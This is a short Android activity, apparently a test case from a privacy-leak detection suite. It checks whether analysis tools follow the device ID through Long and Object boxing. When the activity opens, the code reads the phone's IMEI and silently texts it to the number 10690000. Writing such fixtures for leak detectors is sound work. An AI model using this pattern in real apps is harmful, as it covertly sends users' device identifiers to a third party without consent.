package cn.privlens.suite.boxing_number;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        Long number = Long.valueOf(((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getDeviceId());
        Object boxed = number;
        SmsManager.getDefault().sendTextMessage("10690000", null, "n" + boxed, null, null);
    }
}
